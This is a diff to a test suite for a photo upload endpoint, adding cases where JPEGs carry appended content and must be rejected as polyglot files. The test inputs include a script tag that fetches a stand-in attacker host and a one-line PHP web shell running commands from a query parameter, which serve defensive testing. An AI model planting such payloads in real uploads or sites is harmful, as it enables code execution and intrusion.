@@ -198,6 +198,15 @@ describe('POST /api/photos', () => {
       415,
       'files.not-a-picture',
     ],
+    ...['<script>fetch("https://evil.example")</script>', '<?php system($_GET[0]); ?>', '%PDF-1.7'].map(
+      (tail) =>
+        [
+          `a JPEG that is also ${tail.slice(0, 8)}`,
+          async () => photoForm(Buffer.concat([await jpeg(), Buffer.from(tail)])),
+          422,
+          'files.more-than-a-picture',
+        ] as [string, () => Promise<Form>, number, string],
+    ),
     ['a truncated JPEG', async () => photoForm((await jpeg(1600, 1200)).subarray(0, 9000)), 422, 'files.damaged'],
     [
       'a PNG that declares 30,000 × 30,000 pixels',
@@ -234,13 +243,13 @@ describe('POST /api/photos', () => {
     expect(await world.footprint()).toEqual(before);
   });
 
-  it('a JPEG with a script behind it is kept, the script only in the sealed original', async () => {
-    const script = '<script>fetch("https://evil.example")</script>';
-    const { id } = await kept(citizen, Buffer.concat([await jpeg(), Buffer.from(script)]));
+  it('what a phone writes behind a JPEG is kept with the sealed original only', async () => {
+    const notes = 'MotionPhoto_Data of a phone';
+    const { id } = await kept(citizen, Buffer.concat([await jpeg(), Buffer.from(notes)]));
     const { address, thumbnail } = await viewOf(id);
     for (const url of [address, thumbnail]) {
       const shown = await world.ask('GET', url);
-      expect(shown.rawPayload.includes('<script>')).toBe(false);
+      expect(shown.rawPayload.includes(notes)).toBe(false);
       // Ends where a JPEG ends.
       expect(shown.rawPayload.subarray(-2).toString('hex')).toBe('ffd9');
     }
